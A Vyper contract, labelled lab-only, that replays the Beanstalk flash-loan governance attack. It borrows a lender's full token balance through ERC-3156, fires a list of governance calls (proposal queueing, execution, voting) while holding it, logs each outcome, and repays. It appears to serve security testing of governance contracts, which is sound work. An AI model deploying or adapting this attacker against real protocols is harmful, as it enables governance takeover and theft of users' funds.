# pragma version ~=0.4.3
# pragma nonreentrancy off
"""
@title Governance flash-loan attacker (lab only)
@custom:contract-name GovernanceFlashAttacker
@license GNU Affero General Public License v3.0 only
@notice Beanstalk (17 April 2022) in the lab: borrow the flash lender's
        whole balance of a token (ERC-3156) and, while holding it, make a
        list of governance calls (queue a proposal, execute, register, set
        risk, stress, vote-like calls): whatever power the borrowed balance
        buys. Every call is made with `revert_on_failure=False` and its
        outcome recorded (success flag and the raw revert data); then the
        loan is repaid. Not for deployment outside the lab. Reentrancy
        guards are off on purpose: the lender calls back into `onFlashLoan`.
"""

from ethereum.ercs import IERC20
from ..market import IERC3156FlashBorrower
from ..market import IERC3156FlashLender

implements: IERC3156FlashBorrower

CALLBACK_SUCCESS: constant(bytes32) = keccak256("ERC3156FlashBorrower.onFlashLoan")
MAX_CALLS: constant(uint256) = 16
MAX_DATA: constant(uint256) = 1024
MAX_OUT: constant(uint256) = 256


struct Call:
    target: address
    data: Bytes[MAX_DATA]


LENDER: public(immutable(address))
calls: DynArray[Call, MAX_CALLS]
succeeded: public(DynArray[bool, MAX_CALLS])
outputs: public(DynArray[Bytes[MAX_OUT], MAX_CALLS])
borrowed: public(uint256)
balance_during: public(uint256)


@deploy
def __init__(lender: address):
    LENDER = lender


@external
def attack(token: address, amount: uint256, calls_: DynArray[Call, MAX_CALLS]):
    """
    @notice Borrow `amount` of `token` and make `calls_` while holding it.
            The flash fee comes from this contract's own balance.
    """
    self.calls = calls_
    self.succeeded = []
    self.outputs = []
    assert extcall IERC3156FlashLender(LENDER).flashLoan(self, token, amount, b""), "attacker: loan failed"


@external
def probe(calls_: DynArray[Call, MAX_CALLS]):
    """
    @notice The same calls without a loan (the control: what the balance
            changes).
    """
    self.calls = calls_
    self.succeeded = []
    self.outputs = []
    self._make_calls()


@external
def onFlashLoan(initiator: address, token: address, amount: uint256, fee: uint256, data: Bytes[1024]) -> bytes32:
    assert msg.sender == LENDER and initiator == self, "attacker: untrusted callback"
    self.borrowed = amount
    self.balance_during = staticcall IERC20(token).balanceOf(self)
    self._make_calls()
    assert extcall IERC20(token).approve(LENDER, amount + fee, default_return_value=True), "attacker: approve failed"
    return CALLBACK_SUCCESS


@internal
def _make_calls():
    for c: Call in self.calls:
        ok: bool = False
        out: Bytes[MAX_OUT] = b""
        ok, out = raw_call(c.target, c.data, max_outsize=MAX_OUT, revert_on_failure=False)
        self.succeeded.append(ok)
        self.outputs.append(out)
